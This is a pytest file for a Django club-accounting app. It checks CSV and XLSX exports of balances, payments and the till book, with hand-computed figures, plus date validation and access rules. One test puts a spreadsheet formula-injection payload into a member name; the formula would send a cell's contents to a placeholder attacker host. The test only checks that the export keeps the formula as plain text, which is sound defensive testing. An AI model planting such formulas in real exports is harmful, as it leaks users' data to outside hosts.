"""The treasurer's books as files: saldi at a date, the payments and the till book of a period,
and the standings and postings as XLSX; CSV in the reader's conventions. Every figure is worked
out by hand from the autumn (see conftest) and the payments below.

Payments, at 25 øre a point:
    1 Sep   Dorte   saldo from paper −125,50 (she owes the club)
    25 Oct  Anna    paid in 50,00 cash
    10 Nov  Bent    paid in 20,00 by bank transfer
    12 Nov  Bent    that payment reversed ("Forkert medlem")
    25 Nov  Carl    paid out 9,75 by MobilePay ("Udbetalt")

Saldi at the end of 31 October: the October sitting only (the correction is booked 20 Nov):
    Anna −26 points = −6,50 + 50,00 = 43,50;  Bent +43 = 10,75;  Carl −17 = −4,25;  Dorte −125,50
At the end of 30 November: Anna −24 = −6,00 + 50,00 = 44,00;  Bent −15 = −3,75 (+20 −20);
    Carl +39 = 9,75 − 9,75 = 0,00;  Dorte −125,50
The till in November: 50,00 brought forward (Dorte's saldo from paper moved no cash), +20,00 = 70,00,
    −20,00 = 50,00, −9,75 = 40,25.
"""

from __future__ import annotations

import csv
import datetime
import io
import re
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from club.models import Payment
from club.services import payments as payment_office
from club.services.opening import carry_over

D = datetime.date


@pytest.fixture
def books(autumn):
    club, by = autumn.club, autumn.dorte.user
    carry_over(autumn.dorte, -12550, on=D(2026, 9, 1), by=by)

    def pay(member, direction, ore, method, day, note=""):
        return payment_office.record_payment(
            club, member=member, direction=direction, amount_ore=ore, method=method, paid_on=day, note=note, by=by
        )

    anna = pay(autumn.anna, Payment.Direction.IN, 5000, Payment.Method.CASH, D(2026, 10, 25))
    bent = pay(autumn.bent, Payment.Direction.IN, 2000, Payment.Method.BANK, D(2026, 11, 10))
    reversal = payment_office.reverse_payment(bent, reason="Forkert medlem", by=by, on=D(2026, 11, 12))
    carl = pay(autumn.carl, Payment.Direction.OUT, 975, Payment.Method.MOBILEPAY, D(2026, 11, 25), "Udbetalt")
    autumn.payments = {"anna": anna, "bent": bent, "reversal": reversal, "carl": carl}
    return autumn


def export(client, books, what, kind, language="en", **dates):
    client.force_login(books.dorte.user)
    url = reverse("office_export", args=["vestbyen", what, kind])
    return client.get(url, {k: v.isoformat() for k, v in dates.items()}, HTTP_ACCEPT_LANGUAGE=language)


def csv_rows(response, delimiter):
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=delimiter))


def xlsx_rows(response):
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    return [list(row) for row in book.active.iter_rows(values_only=True)]


def test_saldi_at_a_date_as_danish_csv_bytes(client, books):
    response = export(client, books, "saldi", "csv", "da", on=D(2026, 10, 31))
    assert response["Content-Disposition"] == 'attachment; filename="vestbyen-saldi-2026-10-31.csv"'
    assert response.content.decode("utf-8") == (
        "\ufeffmedlem;e-mail;aktiv;saldo\r\n"
        "Anna Jensen;;ja;43,50\r\n"
        "Bent Ørsted;;ja;10,75\r\n"
        "Carl Åberg;;ja;-4,25\r\n"
        "Dorte Ærø;;ja;-125,50\r\n"
    )


def test_saldi_at_a_date_as_english_csv_and_as_xlsx(client, books):
    rows = csv_rows(export(client, books, "saldi", "csv", on=D(2026, 11, 30)), ",")
    assert rows == [
        ["member", "email", "active", "saldo"],
        ["Anna Jensen", "", "yes", "44.00"],
        ["Bent Ørsted", "", "yes", "-3.75"],
        ["Carl Åberg", "", "yes", "0.00"],
        ["Dorte Ærø", "", "yes", "-125.50"],
    ]
    cells = xlsx_rows(export(client, books, "saldi", "xlsx", "da", on=D(2026, 11, 30)))
    assert cells == [
        ["medlem", "e-mail", "aktiv", "saldo"],
        ["Anna Jensen", None, "ja", 44],
        ["Bent Ørsted", None, "ja", -3.75],
        ["Carl Åberg", None, "ja", 0],
        ["Dorte Ærø", None, "ja", -125.5],
    ]


def test_saldi_of_today_agree_with_the_debtors_page(client, books):
    client.force_login(books.dorte.user)
    page = client.get(reverse("office_debtors", args=["vestbyen"]))
    on_page = {member.name: Decimal(ore) / 100 for member, ore in page.context["debtors"].rows}
    cells = xlsx_rows(export(client, books, "saldi", "xlsx", on=D(2030, 12, 31)))  # after every posting
    in_file = {row[0]: Decimal(str(row[3])) for row in cells[1:] if row[3]}
    assert in_file == on_page == {"Anna Jensen": 44, "Bent Ørsted": Decimal("-3.75"), "Dorte Ærø": Decimal("-125.5")}


def test_payments_and_till_in_the_files_agree_with_the_payments_page(client, books):
    client.force_login(books.dorte.user)
    page = client.get(reverse("office_payments", args=["vestbyen"])).content.decode()
    on_page = {int(pk): int(ore) for pk, ore in re.findall(r'data-payment="(\d+)" data-signed-ore="(-?\d+)"', page)}
    till_on_page = int(re.search(r'id="till" data-till-ore="(-?\d+)"', page).group(1))
    year = {"first": D(2026, 1, 1), "last": D(2026, 12, 31)}

    paid = xlsx_rows(export(client, books, "payments", "xlsx", **year))
    in_file = {row[1]: round(Decimal(str(row[5])) * 100) for row in paid[1:]}
    till_book = xlsx_rows(export(client, books, "till", "xlsx", **year))

    ids = {name: payment.pk for name, payment in books.payments.items()}
    # Dorte's saldo from paper is a line of both, and moved no cash: the till is 50 + 20 − 20 − 9,75.
    assert (
        in_file
        == on_page
        == {
            ids["anna"]: 5000,
            ids["bent"]: 2000,
            ids["reversal"]: -2000,
            ids["carl"]: -975,
            books.dorte.payments.get().pk: -12550,
        }
    )
    assert round(Decimal(str(till_book[-1][5])) * 100) == till_on_page == 4025


def test_payments_of_a_period(client, books):
    reversal = books.payments["reversal"]
    rows = csv_rows(export(client, books, "payments", "csv", first=D(2026, 10, 1), last=D(2026, 11, 30)), ",")
    ids = {name: str(payment.pk) for name, payment in books.payments.items()}
    assert rows == [
        ["date", "number", "member", "kind", "method", "amount", "note", "reverses"],
        ["2026-10-25", ids["anna"], "Anna Jensen", "paid in", "cash", "50.00", "", ""],
        ["2026-11-10", ids["bent"], "Bent Ørsted", "paid in", "bank transfer", "20.00", "", ""],
        [
            "2026-11-12",
            ids["reversal"],
            "Bent Ørsted",
            "reversal of paid in",
            "bank transfer",
            "-20.00",
            "Forkert medlem",
            ids["bent"],
        ],
        ["2026-11-25", ids["carl"], "Carl Åberg", "paid out", "MobilePay", "-9.75", "Udbetalt", ""],
    ]
    assert reversal.reverses_id == books.payments["bent"].pk
    cells = xlsx_rows(export(client, books, "payments", "xlsx", first=D(2026, 9, 1), last=D(2026, 9, 30)))
    assert cells[1][:6] == [
        datetime.datetime(2026, 9, 1),
        cells[1][1],
        "Dorte Ærø",
        "carried over from paper",
        "carried over from paper",
        -125.5,
    ]
    assert len(cells) == 2


def test_till_book_of_november(client, books):
    response = export(client, books, "till", "xlsx", first=D(2026, 11, 1), last=D(2026, 11, 30))
    assert response["Content-Disposition"] == 'attachment; filename="vestbyen-till-2026-11-01-2026-11-30.xlsx"'
    cells = xlsx_rows(response)
    ids = {name: payment.pk for name, payment in books.payments.items()}
    nov = lambda day: datetime.datetime(2026, 11, day)  # noqa: E731
    assert cells == [
        ["date", "number", "text", "in", "out", "till"],
        [nov(1), None, "brought forward", None, None, 50],
        [nov(10), ids["bent"], "Bent Ørsted: paid in, bank transfer", 20, None, 70],
        [nov(12), ids["reversal"], "Bent Ørsted: reversal of paid in, bank transfer", None, 20, 50],
        [nov(25), ids["carl"], "Carl Åberg: paid out, MobilePay", None, 9.75, 40.25],
    ]
    rows = csv_rows(export(client, books, "till", "csv", "da", first=D(2026, 11, 1), last=D(2026, 11, 30)), ";")
    assert [row[3:] for row in rows[1:]] == [
        ["", "", "50,00"],
        ["20,00", "", "70,00"],
        ["", "20,00", "50,00"],
        ["", "9,75", "40,25"],
    ]


def test_standings_and_postings_as_xlsx(client, books):
    client.force_login(books.anna.user)
    standings = xlsx_rows(
        client.get(reverse("season-standings-xlsx", args=["vestbyen", books.season.pk]), HTTP_ACCEPT_LANGUAGE="en")
    )
    assert standings == [
        ["member", "points", "kroner"],
        ["Carl Åberg", 39, 9.75],
        ["Bent Ørsted", -15, -3.75],
        ["Anna Jensen", -24, -6],
    ]
    postings = xlsx_rows(client.get(reverse("member-postings-xlsx", args=["vestbyen", books.anna.pk])))
    # Anna: 5 postings in October, 7 on 4 November; the correction reverses her stake and last
    # trick of October's deal 1 (+10, +20) and posts them again (−10, −20).
    assert len(postings) == 1 + 5 + 7 + 4
    assert [row[-2:] for row in postings[-4:]] == [[10, -14], [20, 6], [-10, -4], [-20, -24]]


def test_formula_text_stays_text_in_xlsx(client, books):
    books.carl.name = '=HYPERLINK("http://evil.example/"&A1)'
    books.carl.save()
    cells = xlsx_rows(export(client, books, "saldi", "xlsx", on=D(2026, 11, 30)))
    book = openpyxl.load_workbook(io.BytesIO(export(client, books, "saldi", "xlsx", on=D(2026, 11, 30)).content))
    formula = next(cell for cell in book.active["A"] if cell.value == books.carl.name)
    assert formula.data_type == "s"
    assert ['=HYPERLINK("http://evil.example/"&A1)', None, "yes", 0] in cells


@pytest.mark.parametrize(
    ("what", "dates", "message"),
    [
        ("saldi", {}, "This field is required."),
        ("saldi", {"on": "2026-02-30"}, "Enter a valid date."),
        ("saldi", {"on": "0001-01-01"}, "Give a real date."),
        ("payments", {"first": "2026-11-30", "last": "2026-11-01"}, "The period ends before it begins."),
        ("till", {"first": "2026-11-01"}, "This field is required."),
    ],
)
def test_a_bad_date_is_named_not_a_500(client, books, what, dates, message):
    client.force_login(books.dorte.user)
    response = client.get(reverse("office_export", args=["vestbyen", what, "csv"]), dates, HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 400
    assert message in response.content.decode()


def test_exports_are_the_officials(client, books, other_club):
    for user, status in ((books.anna.user, 403), (other_club.ebbe.user, 404)):
        client.force_login(user)
        assert client.get(reverse("office_exports", args=["vestbyen"])).status_code == status
        url = reverse("office_export", args=["vestbyen", "saldi", "xlsx"])
        assert client.get(url, {"on": "2026-11-30"}).status_code == status
    client.force_login(books.dorte.user)
    page = client.get(reverse("office_exports", args=["vestbyen"]), HTTP_ACCEPT_LANGUAGE="da")
    assert page.status_code == 200
    assert reverse("office_export", args=["vestbyen", "till", "xlsx"]) in page.content.decode()
